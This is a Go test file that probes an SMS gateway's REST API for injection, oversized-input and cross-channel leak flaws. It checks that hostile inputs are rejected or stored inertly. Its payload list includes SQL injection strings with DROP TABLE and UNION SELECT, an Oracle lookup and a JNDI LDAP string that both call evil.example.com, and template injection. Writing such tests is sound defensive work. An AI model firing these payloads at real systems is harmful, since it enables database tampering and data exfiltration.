package attack_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"ebs-sms-gateway/gateway"
	"ebs-sms-gateway/test/rig"
)

// injections are texts that would be more than a value where somebody puts values into statements.
func injections() []string {
	return []string{
		`' OR '1'='1`, `' OR 1=1 --`, `x'; DROP TABLE xxsms_outbound; --`, `x' UNION SELECT NULL FROM dual --`, `'||(SELECT user FROM dual)||'`,
		`' || utl_inaddr.get_host_address('evil.example.com') || '`, `") OR ("1"="1`, `%`, `_`, `*`, `\`, `\'`, `:1`, `:channel`, `?`, `$1`, `@x`,
		`${jndi:ldap://evil.example.com/x}`, `{{7*7}}`, "a\u0000b", "\u0000", "\u2028", `q'[x]'`, `/*`, `chr(39)`, strings.Repeat("'", 1000),
	}
}

// TestLists_OnEachStore attacks what comes near to statements on the embedded store, and on Oracle's.
func TestLists_OnEachStore(t *testing.T) {
	t.Parallel()
	onStores(t, map[string]func(*site){
		"TakeValuesForValues": (*site).takesValuesForValues, "BearWhatIsTooMuch": (*site).bearsWhatIsTooMuch,
		"TellNothingOfOtherChannelsRows": (*site).tellsNothingOfOtherChannelsRows,
	})
}

// takesValuesForValues, on both stores: whatever they are, they find nothing, do nothing and break nothing.
func (s *site) takesValuesForValues() {
	s.Helper()
	for _, text := range injections() {
		value, err := json.Marshal(text)
		require.NoError(s, err)
		for _, q := range []string{
			"/outbound/?q=" + q(`{"channel":"RIG","source_key":%s}`, value), "/outbound/?q=" + q(`{"recipient":%s}`, value),
			"/outbound/?q=" + q(`{"channel":%s}`, value), "/outbound/?q=" + q(`{"status":%s}`, value), "/inbound/?q=" + q(`{"from_number":%s}`, value),
			"/inbound/?q=" + q(`{"process_status":%s}`, value), "/inbound/?q=" + q(`{"match_status":{"$eq":%s}}`, value),
		} {
			got := s.ask(asked{method: http.MethodGet, path: q, by: "all"})
			if strings.ContainsRune(text, 0) {
				require.Equal(s, http.StatusBadRequest, got.status, "%s %s", q, got.body)
				continue
			}
			require.Equal(s, http.StatusOK, got.status, "%s %s", q, got.body)
			require.Contains(s, got.body, `"items":[],"hasMore":false`)
		}
		for _, q := range []string{
			q(`{"message_id":%s}`, value), q(`{"person_id":%s}`, value), q(`{"creation_date":{"$gt":%s}}`, value), q(`{%s:1}`, value),
			q(`{"status":{%s:"SENT"}}`, value), q(`{"$orderby":{"message_id":%s}}`, value), q(`{"$orderby":{%s:"ASC"}}`, value), q(`%s`, value),
		} {
			got := s.ask(asked{method: http.MethodGet, path: "/outbound/?q=" + q, by: "all"})
			require.Equal(s, http.StatusBadRequest, got.status, "%s %s", q, got.body)
		}
		escaped := url.QueryEscape(text)
		for _, path := range []string{"?fields=" + escaped, "?fields=status," + escaped, "?limit=" + escaped, "?offset=" + escaped, "?cursor=" + escaped, "?" + escaped + "=1"} {
			require.Equal(s, http.StatusBadRequest, s.ask(asked{method: http.MethodGet, path: "/inbound/" + path, by: "all"}).status, path)
		}
		for _, path := range []string{"/outbound/", "/inbound/"} {
			require.Equal(s, http.StatusNotFound, s.ask(asked{method: http.MethodGet, path: path + url.PathEscape(text), by: "all"}).status, text)
		}
		s.writes(text, value)
	}
	require.Equal(s, gateway.MatchMatched, s.replies()[0].Match.Status)
	s.holdsNothingPersonal("the log", s.log.String())
	require.NotContains(s, s.log.String(), "evil.example.com")
	require.NotContains(s, s.log.String(), "request failed")
}

// q is a filter for a query, with a JSON value in it.
func q(form string, value []byte) string { return url.QueryEscape(fmt.Sprintf(form, value)) }

// writes queues a text in every column that there is, and says that a reply failed by it: it is kept, or refused.
func (s *site) writes(text string, value []byte) {
	s.Helper()
	for _, column := range []string{"source_key", "person_name", "subject", "body"} {
		body := fmt.Sprintf(`{"channel":"OTHER","phones":"1","body":"x",%q:%s}`, column, value)
		if column == "body" {
			body = fmt.Sprintf(`{"channel":"OTHER","phones":"1","body":%s}`, value)
		}
		got := s.ask(asked{method: http.MethodPost, path: "/outbound/", body: body, by: "all"})
		if got.status == http.StatusBadRequest {
			require.True(s, strings.ContainsRune(text, 0) || len(text) > 80, "%s %s", column, got.body)
			continue
		}
		require.Equal(s, http.StatusCreated, got.status, "%s %s", column, got.body)
		var row map[string]any
		require.NoError(s, json.Unmarshal([]byte(got.body), &row))
		require.Equal(s, strings.ToValidUTF8(text, "\uFFFD"), row[column])
	}
	got := s.ask(asked{method: http.MethodPut, path: "/inbound/1", body: fmt.Sprintf(`{"process_status":"NEW","process_error":%s}`, value), by: "all"})
	require.Contains(s, []int{http.StatusOK, http.StatusBadRequest}, got.status, got.body)
	require.Equal(s, strings.ContainsRune(text, 0), got.status == http.StatusBadRequest, got.body)
}

// bearsWhatIsTooMuch: each is refused or served at once, on both stores.
func (s *site) bearsWhatIsTooMuch() {
	s.Helper()
	deep := strings.Repeat(`{"$and":[`, 20) + `{"status":"SENT"}` + strings.Repeat(`]}`, 20)
	wide := `{"$or":[` + strings.TrimSuffix(strings.Repeat(`{"status":"SENT"},`, 101), ",") + `]}`
	ids := `{"message_id":{"$or":[` + strings.TrimSuffix(strings.Repeat(`1,`, 100), ",") + `]}}`
	for query, want := range map[string]int{
		"q=" + url.QueryEscape(deep): 400, "q=" + url.QueryEscape(wide): 400, "q=" + url.QueryEscape(ids): 200, "limit=1000": 200, "limit=1001": 400,
		"limit=0": 400, "limit=-1": 400, "limit=1e9": 400, "limit=99999999999999999999": 400, "offset=10000&limit=1000": 200, "offset=10001": 400,
		"offset=-1": 400, "cursor=999999999999999": 200, "cursor=9223372036854775807": 400, "fields=" + strings.Repeat("status,", 999) + "status": 200,
		"q=" + url.QueryEscape(`{"message_id":{"$between":[0,999999999999999]}}`): 200, "q=" + url.QueryEscape(`{"message_id":{"$lt":0}}`): 200,
		"q=" + url.QueryEscape(`{"message_id":1e99}`): 400, "q=" + url.QueryEscape(`{"person_id":999999999999999}`): 200,
		"q=" + url.QueryEscape(`{"creation_date":{"$between":["0002-01-01T00:00:00Z","9999-12-31T23:59:59.999Z"]}}`): 200,
		"q=" + url.QueryEscape(`{"creation_date":{"$gt":"9999-12-31T23:59:59.999Z"}}`):                               200, "q=" + url.QueryEscape(`{"status":{"$like":"`+strings.Repeat("%_", 1000)+`"}}`): 200,
		"q=%ff": 400, "q=" + strings.Repeat("x", 17<<10): 431, "q={};limit=1": 400,
	} {
		started := time.Now()
		got := s.ask(asked{method: http.MethodGet, path: "/outbound/?" + query, by: "all"})
		require.Equal(s, want, got.status, "%.60s %.300s", query, got.body)
		require.Less(s, time.Since(started), 10*time.Second)
	}
	require.Equal(s, http.StatusOK, s.ask(asked{method: http.MethodGet, path: "/inbound/?q=" +
		url.QueryEscape(`{"received_at":{"$between":["9999-12-30T00:00:00Z","9999-12-31T23:59:59.998Z"]}}`), by: "all"}).status)
	for body, want := range map[string]int{
		`{"channel":"RIG","phones":"1","body":"` + strings.Repeat("x", 64<<10) + `"}`: 413, `{"channel":"RIG","channel":"OTHER","phones":"1","body":"x"}`: 400,
		`{"channel":"RIG","phones":"1","body":"` + strings.Repeat("é", 1600) + `"}`: 201, `{"channel":"RIG","phones":"1","body":"` + strings.Repeat("é", 1601) + `"}`: 400,
		`{"channel":"RIG","phones":"1","body":"` + "\xff" + `"}`: 400, strings.Repeat("[", 10_000): 400, `{"channel":"RIG","phones":"1","body":"x","person_id":1e15}`: 400,
		`{"channel":"RIG","phones":"1","body":"x","person_id":999999999999999}`: 201, `{"channel":"RIG","phones":"1","body":"x","priority":9223372036854775807}`: 400,
		`{"channel":"RIG","phones":"1","body":"x","not_before":"9999-12-31T23:59:59-05:00"}`: 400, `{"channel":"RIG","phones":"1","body":"x","not_before":"0001-01-01T00:00:00+05:00"}`: 400,
		`{"channel":"RIG","phones":"1","body":"x","not_before":"9999-12-31T23:59:58Z","expires_at":"9999-12-31T23:59:59Z"}`: 201,
		`{"channel":"RIG","phones":"1","body":"x","expires_at":"0002-01-01T00:00:00Z"}`:                                     201, `{"channel":"RIG","phones":"1","body":"x","media_urls":"https://a\n\n\nhttps://b"}`: 201,
	} {
		got := s.ask(asked{method: http.MethodPost, path: "/outbound/", body: body, by: "all"})
		require.Equal(s, want, got.status, "%.100s %.300s", body, got.body)
		require.Less(s, len(got.body), 16<<10)
	}
	require.NotContains(s, s.log.String(), "request failed")
}

// tellsNothingOfOtherChannelsRows: to who sees another channel, a row that there is looks like one that there is not.
func (s *site) tellsNothingOfOtherChannelsRows() {
	s.Helper()
	there := func(number string) []asked {
		return []asked{
			{method: http.MethodGet, path: "/outbound/" + number}, {method: http.MethodHead, path: "/outbound/" + number},
			{method: http.MethodGet, path: "/outbound/" + number, headers: map[string]string{"If-None-Match": "*"}},
			{method: http.MethodGet, path: "/outbound/?q=" + q(`{"message_id":%s}`, []byte(number))},
			{method: http.MethodGet, path: "/outbound/?q=" + q(`{"message_id":{"$between":[%[1]s,%[1]s]}}`, []byte(number))},
			{method: http.MethodGet, path: "/inbound/" + number}, {method: http.MethodGet, path: "/inbound/?q=" + q(`{"inbound_id":%s}`, []byte(number))},
			{method: http.MethodGet, path: "/inbound/?q=" + q(`{"message_id":%s}`, []byte(number))},
			{method: http.MethodPut, path: "/inbound/" + number, body: `{"process_status":"DONE"}`},
			{method: http.MethodPut, path: "/inbound/" + number, body: `{"process_status":"DONE"}`, headers: map[string]string{"If-Match": "*"}},
			{method: http.MethodPut, path: "/inbound/" + number, body: `{"process_status":"x"}`}, {method: http.MethodPut, path: "/inbound/" + number, body: `{`},
		}
	}
	missing := there("987654")
	for i, a := range there("1") {
		a.by, missing[i].by = "other", "other"
		is, not := s.ask(a), s.ask(missing[i])
		require.Equal(s, not.status, is.status, a.path)
		require.Equal(s, anonymous(not.body), strings.ReplaceAll(anonymous(is.body), "%3A1%7D", "%3A987654%7D"), a.path)
		for _, name := range []string{"Date", "Content-Length", "Etag"} {
			is.header.Del(name)
			not.header.Del(name)
		}
		require.Equal(s, not.header, is.header)
	}
	require.Equal(s, "NEW", s.replies()[0].Processing.Status)
	queue := func(by, channel string) answer {
		return s.ask(asked{method: http.MethodPost, path: "/outbound/", by: by,
			body: `{"channel":"` + channel + `","phones":"+12025550188","body":"x","source_key":"THE-SAME"}`})
	}
	first, second := queue("all", rig.Channel), queue("other", other)
	require.Equal(s, []int{http.StatusCreated, http.StatusCreated}, []int{first.status, second.status}, "a key is of its channel")
	require.NotEqual(s, first.header.Get("Location"), second.header.Get("Location"))
	require.Equal(s, http.StatusForbidden, queue("other", rig.Channel).status)
	require.Len(s, s.written(), 4)
}

// anonymous is a body without what is of each answer, and of where it was asked for.
func anonymous(body string) string {
	if i := strings.Index(body, "ecid/"); i >= 0 {
		return body[:i]
	}
	return strings.ReplaceAll(strings.ReplaceAll(body, "B1%2C1", "B987654%2C987654"), "outbound/1", "outbound/987654")
}
